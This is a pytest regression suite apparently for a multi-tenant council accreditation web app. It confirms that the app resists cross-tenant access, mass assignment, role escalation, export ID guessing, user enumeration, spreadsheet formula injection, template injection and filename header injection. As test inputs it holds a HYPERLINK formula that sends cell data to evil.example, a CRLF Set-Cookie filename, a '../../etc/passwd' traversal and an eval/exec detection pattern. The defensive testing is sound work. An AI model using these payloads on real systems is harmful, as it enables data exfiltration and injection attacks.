"""Ways in which systems like this one have leaked, each tried here: what others' advisories told is not told of us.

That rows of others are met at no address stands in tests/journeys/test_foreign_rows.py; here is what is named in a
body, made for one person, guessed, run by a spreadsheet, or written past the door.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from uuid import uuid4

import pytest
import sqlalchemy as sa
from flask import Flask

from saas.policy import Role
from saas.tenancy import Actor
from saas.transaction import within
from tenants.services import prepared_files
from tests.caller import Caller
from tests.conftest import InScope
from tests.factories.assessment import make_accreditation
from tests.factories.evidence import make_file, make_link
from tests.factories.members import make_member
from tests.factories.plans import make_action, make_plan
from tests.factories.submissions import make_submission
from tests.factories.tenants import MadeCouncil, MadeUser, make_council, make_region, make_user
from tests.house.asking import Asker, address, guarded_routes, methods_of

ROOT = Path(__file__).parents[2]
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


@pytest.fixture
def other(app: Flask, council: MadeCouncil) -> MadeCouncil:
    """Another council of the same region."""
    return make_council(app, council.region)


def test_a_row_of_another_council_named_in_a_body_is_not_there(
    app: Flask, caller: Caller, council: MadeCouncil, other: MadeCouncil
) -> None:
    """Probo 2026: a foreign key to another tenant's row was taken, then read back."""
    answers = f"/councils/{council.slug}/accreditations/{make_accreditation(app, council)}/answers/1.1.1"
    heard = {}
    for name, evidence_id in {"theirs": make_file(app, other, title="Secret"), "nothing": uuid4()}.items():
        given = {"narrative": "x", "citations": [{"evidence_id": str(evidence_id)}]}
        answer = caller.call("PUT", answers, json=given, headers={"If-None-Match": "*"})
        assert answer.json is not None
        heard[name] = (answer.status_code, answer.json["errors"])
    assert heard["theirs"] == heard["nothing"]
    assert heard["theirs"][0] == 422
    sent = {"action": "Do it", "plan_id": str(make_plan(app, other))}
    assert caller.post(f"/councils/{council.slug}/plans/{make_plan(app, council)}/actions", sent).status_code == 422


def test_what_a_caller_may_not_set_is_refused_and_writes_nothing(
    app: Flask, caller: Caller, council: MadeCouncil, other: MadeCouncil, lead: MadeUser, in_scope: InScope
) -> None:
    """Formbricks, Frappe 2026: the tenant, or an owner, came from the body."""
    plan_id = make_plan(app, council)
    forbidden = ("council_id", "region_id", "id", "plan_id", "import_id", "role", "version", "user_id", "position")
    for name in forbidden:
        sent = {"action": "Do it", name: str(other.id)}
        assert caller.post(f"/councils/{council.slug}/plans/{plan_id}/actions", sent).status_code == 422
    browser = app.test_client()
    browser.sign_in(lead)  # type: ignore[attr-defined]
    for name in ("council_id", "region_id", "id", "plan_id", "user_id"):
        typed = {"action": "Do it", name: str(other.id)}
        refused = browser.post(f"/councils/{council.slug}/plans/{plan_id}/actions/add", data=typed)
        assert (refused.status_code, f"This form has no field called “{name}”" in refused.text) == (422, True)
    for scope in (other.scope(), council.scope()):
        with in_scope(scope) as session:
            assert session.scalar(sa.text("select count(*) from actions")) == 0


@pytest.mark.parametrize("role", ["operator", "region_officer", "region_decider", "assessor", "owner", ""])
def test_nobody_makes_a_role_above_ones_own(app: Flask, council: MadeCouncil, lead: MadeUser, role: str) -> None:
    """Probo 2026: an admin made an owner through the path that creates."""
    browser = app.test_client()
    browser.sign_in(lead)  # type: ignore[attr-defined]
    typed = {"name": "Nia New", "email": "new@example.org", "role": role}
    answer = browser.post(f"/councils/{council.slug}/access/invite", data=typed)
    assert answer.status_code == 422
    with app.app_context(), within(council.scope()) as session:
        assert session.scalar(sa.text("select count(*) from invitations")) == 0


def test_a_file_made_for_one_person_is_there_for_nobody_else(app: Flask, council: MadeCouncil, lead: MadeUser) -> None:
    """pretix CVE-2026-9712: an export was fetched by its id alone."""
    by = Actor(lead.id, lead.name)
    with app.app_context(), within(council.scope(lead.id)):
        region_id = council.region.id
        file = prepared_files.ask("council", council_id=council.id, region_id=region_id, by=by).id
    for user in (make_user(app, council, Role.COUNCIL_LEAD), make_user(app, council.region, Role.REGION_OFFICER)):
        browser = app.test_client()
        browser.sign_in(user)  # type: ignore[attr-defined]
        for path in (f"/councils/{council.slug}/export/{file}", f"/account/my-data/{file}"):
            assert browser.get(path).status_code == 404


def test_a_row_under_another_parent_is_not_there(app: Flask, caller: Caller, council: MadeCouncil) -> None:
    """Moodle CVE-2026-30884: an element of any course was changed through one's own."""
    mine, others = make_plan(app, council), make_plan(app, council, "Another")
    action = make_action(app, council, others)
    path = f"/councils/{council.slug}/plans/{mine}/actions/{action}"
    assert caller.get(path).status_code == 404
    assert caller.call("PATCH", path, json={"remark": "x"}, match='"1"').status_code == 404


def test_people_of_other_places_cannot_be_listed_or_guessed(
    app: Flask, caller: Caller, council: MadeCouncil, other: MadeCouncil, lead: MadeUser
) -> None:
    """Indico CVE-2025-53640 and CVE-2025-59034: names and profiles of others by their ids."""
    stranger = make_user(app, other, Role.COUNCIL_EDITOR, "Quentin Stranger")
    make_member(app, other, given_name="Quentin", family_name="Stranger")
    browser = app.test_client()
    browser.sign_in(lead)  # type: ignore[attr-defined]
    seen = [
        browser.get(f"/councils/{council.slug}/{path}").text
        for path in ("access", "members", "members.csv", f"members?words={stranger.name}", f"search?q={stranger.name}")
    ]
    seen += [caller.get(f"/councils/{council.slug}/{path}").text for path in ("members", "members?words=Quentin")]
    assert [text for text in seen if stranger.email in text or "Quentin Stranger</" in text] == []
    listed = caller.get(f"/councils/{council.slug}/members").json
    assert listed is not None
    assert listed["items"] == []


def test_no_text_of_people_is_run_by_a_spreadsheet(app: Flask, lead: MadeUser, council: MadeCouncil) -> None:
    """Every table that can be downloaded, with formulas wherever people write."""
    named = make_council(app, make_region(app, name=FORMULA), name=FORMULA)
    accreditation_id = make_accreditation(app, named)
    plan_id = make_plan(app, named, FORMULA)
    make_action(app, named, plan_id, action=FORMULA, responsibility=FORMULA, remark=FORMULA, timescale=FORMULA)
    make_member(app, named, given_name=FORMULA, family_name=FORMULA, ward=FORMULA)
    make_file(app, named, title=FORMULA)
    make_link(app, named, title=FORMULA)
    make_submission(app, named, accreditation_id)
    askers = {}
    for kind, place, role in (("council", named, Role.COUNCIL_LEAD), ("region", named.region, Role.REGION_OFFICER)):
        askers[kind] = Asker(app, app.response_class)
        askers[kind].become(make_user(app, place, role, FORMULA), place)
    values = {"council": named.slug, "region": named.region.slug, "plan_id": plan_id, "kind": "xlsx", "number": 1}
    wrong, read = {}, 0
    for rule, _ in guarded_routes(app):
        kind = next((each for each in askers if each in rule.arguments), None)
        if (
            kind
            and "GET" in methods_of(rule)
            and (rule.rule.endswith(("csv", "xlsx", "/export")) or "xlsx" in rule.rule)
        ):
            path = address(app, rule, values | {"accreditation_id": accreditation_id, "layout": "elements"})
            answer = askers[kind].ask(rule, path)
            if answer.status_code == 200:
                read += 1
                if run := formulas(answer.mimetype, answer.data):
                    wrong[rule.rule] = run
    assert wrong == {}
    assert read > 15


def formulas(kind: str, data: bytes) -> list[str]:
    """The cells that a spreadsheet would run."""
    if kind == "text/csv":
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
        return [cell for row in rows for cell in row if re.match(r"[=@\t\r]|[+-](?![\d.,]+$)", cell)]
    if not kind.endswith(".sheet"):
        return []
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
    return [found for sheet in sheets for found in re.findall(r"<f>.*?</f>", sheet)]


def test_no_template_is_made_of_what_people_write() -> None:
    """Jinja's sandbox was escaped twice in 2025: nothing here compiles a template from a text."""
    compiles = re.compile(r"\b(render_template_string|from_string|Template|eval|exec)\(")
    code = [path for package in ("saas", "tenants", "assessment") for path in (ROOT / package).rglob("*.py")]
    assert len(code) > 500
    assert [str(path) for path in code if compiles.search(path.read_text())] == []


@pytest.mark.parametrize(
    "filename", ['a"\r\nSet-Cookie: a=b;.pdf', "../../etc/passwd.pdf", "naïve “plan”.pdf", "a;b=c.pdf"]
)
def test_a_files_name_stays_a_name(app: Flask, lead: MadeUser, council: MadeCouncil, filename: str) -> None:
    evidence_id = make_file(app, council, filename=filename, title="Paper")
    browser = app.test_client()
    browser.sign_in(lead)  # type: ignore[attr-defined]
    answer = browser.get(f"/councils/{council.slug}/evidence/{evidence_id}/file")
    told = answer.headers["Content-Disposition"]
    assert (answer.status_code, told.partition(";")[0]) == (200, "attachment")
    assert not re.search(r"[\r\n/\\]", told)
    assert [each for each in answer.headers.getlist("Set-Cookie") if not each.startswith("charterway=")] == []
